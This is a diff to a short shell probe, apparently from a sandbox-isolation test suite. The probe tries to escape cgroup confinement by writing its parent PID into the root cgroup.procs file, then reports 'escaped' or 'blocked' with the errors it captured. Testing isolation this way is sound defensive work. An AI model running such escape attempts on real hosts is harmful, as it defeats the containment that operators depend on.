@@ -5,17 +5,19 @@
 # control: yes
 # canaries: none
 PATH="$PATH:/usr/sbin:/sbin"
-before=$(cat /proc/self/cgroup 2>/dev/null | grep '^0::')
+before=$(grep '^0::' /proc/self/cgroup 2>/dev/null)
 moved=""
+errs=""
 for root in /sys/fs/cgroup /sys/fs/cgroup/unified; do
-    if [ -w "$root/cgroup.procs" ] && echo $$ > "$root/cgroup.procs" 2>/dev/null; then
+    if e=$(sh -c 'echo $PPID > "$1/cgroup.procs"' sh "$root" 2>&1); then
         moved="$root"
         break
     fi
+    errs="$errs | $e"
 done
-after=$(cat /proc/self/cgroup 2>/dev/null | grep '^0::')
+after=$(grep '^0::' /proc/self/cgroup 2>/dev/null)
 if [ -n "$moved" ]; then
     echo "ATTACK-RESULT: escaped moved into $moved ($before -> $after)"
 else
-    echo "ATTACK-RESULT: blocked cgroup.procs not writable"
+    echo "ATTACK-RESULT: blocked${errs}"
 fi
